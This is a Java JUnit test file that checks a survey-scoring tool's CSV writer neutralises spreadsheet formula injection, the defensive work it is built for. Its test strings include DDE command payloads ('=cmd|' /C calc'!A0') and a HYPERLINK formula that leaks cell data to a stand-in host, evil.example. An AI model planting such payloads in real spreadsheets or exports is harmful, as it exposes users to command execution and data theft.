package io.bilan.runtime.batch;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import io.bilan.runtime.Instrument;
import io.bilan.runtime.TestPackages;
import io.bilan.runtime.scoring.ScoreOptions;
import io.bilan.runtime.scoring.ScoringException;
import java.io.IOException;
import java.io.StringReader;
import java.io.StringWriter;
import java.net.URISyntaxException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.concurrent.TimeUnit;
import org.junit.jupiter.api.Assumptions;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * CSV injection: a text cell of the output that a spreadsheet would run as a formula comes back with a single
 * quote before it, in double quotes (OWASP's advice), and reads back as that text; score columns stay plain
 * numbers, negative ones included. Inputs in {@code batch/formulas.csv} (package {@code every-rule}, items l5 and
 * l6, which scale S_fail sums) and package {@code formula-results}, whose script returns such results.
 */
class CsvInjectionTest {

    private static final Instrument FORMULA_RESULTS = warmedUp(TestPackages.load("formula-results"));

    /**
     * The instrument once its script has run: a first call prepares the JavaScript context and may pass the
     * 500 ms limit on a busy machine, which would refuse a row this test expects scored.
     */
    private static Instrument warmedUp(Instrument instrument) {
        var responseSet = TestPackages.runtime().json().createObjectNode();
        var answers = responseSet.putObject("answers");
        for (String item : List.of("r1", "r2", "r3", "i1", "i2", "i3", "a1", "a2", "a3")) {
            answers.put(item, 3);
        }
        for (int attempt = 0; attempt < 10; attempt++) {
            try {
                instrument.score(responseSet, ScoreOptions.in("en"));
                break;
            } catch (ScoringException e) {
                // Tried again: only the first calls are slow.
            }
        }
        return instrument;
    }

    @Test
    void aCellThatStartsLikeAFormulaIsQuotedBehindASingleQuote() {
        assertEquals("\"'=cmd|' /C calc'!A0\"", CsvLineWriter.cell("=cmd|' /C calc'!A0"));
        assertEquals("\"'=HYPERLINK(\"\"http://evil.example\"\",\"\"Open\"\")\"",
                CsvLineWriter.cell("=HYPERLINK(\"http://evil.example\",\"Open\")"));
        assertEquals("\"'+SUM(1+1)\"", CsvLineWriter.cell("+SUM(1+1)"));
        assertEquals("\"'@SUM(A1)\"", CsvLineWriter.cell("@SUM(A1)"));
        assertEquals("\"'-2+3+cmd|' /C calc'!A0\"", CsvLineWriter.cell("-2+3+cmd|' /C calc'!A0"));
        assertEquals("\"'\t=1+1\"", CsvLineWriter.cell("\t=1+1"));
        assertEquals("\"'\r=1+1\"", CsvLineWriter.cell("\r=1+1"));
        assertEquals("\"'\n=1+1\"", CsvLineWriter.cell("\n=1+1"));
        assertEquals("\"'-\"", CsvLineWriter.cell("-"));
        assertEquals("\"'-Infinity\"", CsvLineWriter.cell("-Infinity"));
    }

    @Test
    void plainNumbersAndOrdinaryTextAreWrittenAsTheyAre() {
        assertEquals("-1.5", CsvLineWriter.cell("-1.5"));
        assertEquals("-4", CsvLineWriter.cell("-4"));
        assertEquals("+4", CsvLineWriter.cell("+4"));
        assertEquals("-1.0E-5", CsvLineWriter.cell("-1.0E-5"));
        assertEquals("-.5", CsvLineWriter.cell("-.5"));
        assertEquals("2.3333333333333335", CsvLineWriter.cell("2.3333333333333335"));
        assertEquals("a=b", CsvLineWriter.cell("a=b"), "only the first character matters");
        assertEquals(" =1+1", CsvLineWriter.cell(" =1+1"), "a leading space keeps a spreadsheet from a formula");
        assertEquals("'=1+1", CsvLineWriter.cell("'=1+1"), "already text for a spreadsheet");
        assertEquals("\"Dupont, Marie \"\"M\"\"\"", CsvLineWriter.cell("Dupont, Marie \"M\""));
        assertEquals("", CsvLineWriter.cell(""));
        assertEquals("", CsvLineWriter.cell(null));
    }

    @Test
    void respondentsThatLookLikeFormulasAreNeutralisedScoredOrRefused() throws Exception {
        String[] lines = scoreFormulasCsv().split("\r\n", -1);

        // Every line: row, respondent, then S_fail's raw, mean and answered after the first 13 scale columns.
        assertTrue(lines[1].startsWith("1,\"'=cmd|' /C calc'!A0\","), lines[1]);
        // Row 2 answers l5 only, so it is refused: its respondent is neutralised on the refusal path too.
        assertTrue(lines[2].startsWith("2,\"'=HYPERLINK(\"\"http://evil.example/?d=\"\"&A1,\"\"Open\"\")\","), lines[2]);
        assertTrue(lines[2].endsWith(",\"insufficient-answers at /answers: scale \"\"S_fail\"\" needs at least 2"
                + " answered items, got 1\""), lines[2]);
        assertTrue(lines[3].startsWith("3,\"'+SUM(1+1)\","), lines[3]);
        assertTrue(lines[4].startsWith("4,\"'@SUM(A1)\","), lines[4]);
        assertTrue(lines[5].startsWith("5,\"'-2+3+cmd|' /C calc'!A0\","), lines[5]);
        // The respondent is read without surrounding white space; what is left starts with = and is neutralised.
        assertTrue(lines[6].startsWith("6,\"'=1+1\","), lines[6]);
        assertTrue(lines[7].startsWith("7,\"'=1+1\","), lines[7]);
        assertTrue(lines[8].startsWith("8,-1.5,"), lines[8]);
        assertTrue(lines[9].startsWith("9,Dupont,"), lines[9]);
        assertEquals(11, lines.length, "header, nine rows, and the empty string after the last line break");
    }

    @Test
    void theNeutralisedOutputReadsBackAsTextAndNumbers() throws Exception {
        List<List<String>> rows = readBack(scoreFormulasCsv());
        int respondent = rows.getFirst().indexOf("respondent");
        int raw = rows.getFirst().indexOf("S_fail.raw");
        int error = rows.getFirst().indexOf("error");

        assertEquals(List.of("'=cmd|' /C calc'!A0", "'=HYPERLINK(\"http://evil.example/?d=\"&A1,\"Open\")",
                "'+SUM(1+1)", "'@SUM(A1)", "'-2+3+cmd|' /C calc'!A0", "'=1+1", "'=1+1", "-1.5", "Dupont"),
                rows.stream().skip(1).map(row -> row.get(respondent)).toList());
        // l5 3 + l6 3; l5 3 + l6 4; row 2 refused.
        assertEquals(List.of("6", "", "7", "6", "6", "6", "6", "6", "6"),
                rows.stream().skip(1).map(row -> row.get(raw)).toList());
        assertEquals("", rows.get(1).get(error));
    }

    @Test
    void aScriptsResultsAreNeutralisedAndItsNegativeScoresStayNumbers() throws Exception {
        String[] lines = scoreFormulaResults().split("\r\n");

        assertEquals("row,respondent,R.raw,R.mean,R.answered,I.raw,I.mean,I.answered,A.raw,A.mean,A.answered,"
                + "balance.raw,balance.mean,results.formula,results.dash,results.negative,results.negativeText,"
                + "results.at,results.tab,flags,error", lines[0]);
        // R 5+5+5 = 15, I 2+2+2 = 6, A 6; balance 6 - 15 - 0.5 = -9.5.
        assertEquals("1,\"'@SUM(A1)\",15,5,3,6,2,3,6,2,3,-9.5,,\"'=1+1\",\"'-2+3\",-1.5,-4,\"'@SUM(A1)\",\"'\t=2+2\",,",
                lines[1]);
        // R 3+3+3 = 9, I 1+1+1 = 3, A 3; balance 3 - 9 - 0.5 = -6.5.
        assertEquals("2,-7,9,3,3,3,1,3,3,1,3,-6.5,,\"'=1+1\",\"'-2+3\",-1.5,-4,\"'@SUM(A1)\",\"'\t=2+2\",,",
                lines[2]);
    }

    @Test
    void rReadsTheNeutralisedCellsAsTextAndTheScoresAsNumbers(@TempDir Path folder) throws Exception {
        Assumptions.assumeTrue(rscriptRuns(), "R (Rscript) is not installed");
        Path results = Files.writeString(folder.resolve("results.csv"), scoreFormulaResults());
        Path respondents = Files.writeString(folder.resolve("respondents.csv"), scoreFormulasCsv());

        assertEquals(List.of(
                "respondent character: \"'@SUM(A1)\" | \"-7\"",
                "balance.raw numeric: -9.5 | -6.5",
                "R.raw integer: 15 | 9",
                "results.formula character: \"'=1+1\" | \"'=1+1\"",
                "results.dash character: \"'-2+3\" | \"'-2+3\"",
                "results.negative numeric: -1.5 | -1.5",
                "results.negativeText integer: -4 | -4",
                "results.tab character: \"'\\t=2+2\" | \"'\\t=2+2\""),
                readWithR(results, "respondent", "balance.raw", "R.raw", "results.formula", "results.dash",
                        "results.negative", "results.negativeText", "results.tab"));
        assertEquals(List.of(
                "respondent character: \"'=cmd|' /C calc'!A0\" | \"'=HYPERLINK(\\\"http://evil.example/?d=\\\"&A1,"
                        + "\\\"Open\\\")\" | \"'+SUM(1+1)\" | \"'@SUM(A1)\" | \"'-2+3+cmd|' /C calc'!A0\" | \"'=1+1\""
                        + " | \"'=1+1\" | \"-1.5\" | \"Dupont\"",
                "S_fail.raw integer: 6 | NA | 7 | 6 | 6 | 6 | 6 | 6 | 6"),
                readWithR(respondents, "respondent", "S_fail.raw"));
    }

    private static String scoreFormulasCsv() throws Exception {
        StringWriter out = new StringWriter();
        BatchSummary summary = BatchFiles.scorer().scoreCsv(BatchFiles.open("formulas.csv"), out);
        assertEquals(new BatchSummary(9, 8, 1), summary, out.toString());
        return out.toString();
    }

    private static String scoreFormulaResults() throws Exception {
        StringWriter out = new StringWriter();
        BatchSummary summary = new BatchScorer(FORMULA_RESULTS, ScoreOptions.in("en"), TestPackages.runtime().json())
                .scoreCsv(new StringReader("respondent,r1,r2,r3,i1,i2,i3,a1,a2,a3\n"
                        + "@SUM(A1),5,5,5,2,2,2,2,2,2\n"
                        + "-7,3,3,3,1,1,1,1,1,1\n"), out);
        assertEquals(new BatchSummary(2, 2, 0), summary, out.toString());
        return out.toString();
    }

    /** The rows of a CSV output as the batch reader reads its input. */
    private static List<List<String>> readBack(String csv) throws IOException {
        CsvRowReader reader = new CsvRowReader(new StringReader(csv), BatchScorer.MAX_ROW_CHARS);
        List<List<String>> rows = new ArrayList<>();
        CsvRowReader.Row row;
        while ((row = reader.next(Integer.MAX_VALUE)) != null) {
            assertEquals(null, row.problem());
            rows.add(row.cells());
        }
        return rows;
    }

    private static boolean rscriptRuns() {
        try {
            Process process = new ProcessBuilder("Rscript", "--version").redirectErrorStream(true).start();
            process.getInputStream().readAllBytes();
            return process.waitFor(60, TimeUnit.SECONDS) && process.exitValue() == 0;
        } catch (IOException e) {
            return false;
        } catch (InterruptedException e) {
            Thread.currentThread().interrupt();
            return false;
        }
    }

    private static List<String> readWithR(Path csv, String... columns) throws Exception {
        List<String> command = new ArrayList<>(List.of("Rscript", "--vanilla", script().toString(), csv.toString()));
        command.addAll(List.of(columns));
        Process process = new ProcessBuilder(command).redirectErrorStream(true).start();
        String output = new String(process.getInputStream().readAllBytes(), StandardCharsets.UTF_8);
        assertTrue(process.waitFor(60, TimeUnit.SECONDS), "Rscript did not finish");
        assertEquals(0, process.exitValue(), output);
        assertFalse(output.isBlank());
        return output.lines().toList();
    }

    private static Path script() throws URISyntaxException {
        return Path.of(CsvInjectionTest.class.getResource("/batch/read-back.R").toURI());
    }
}
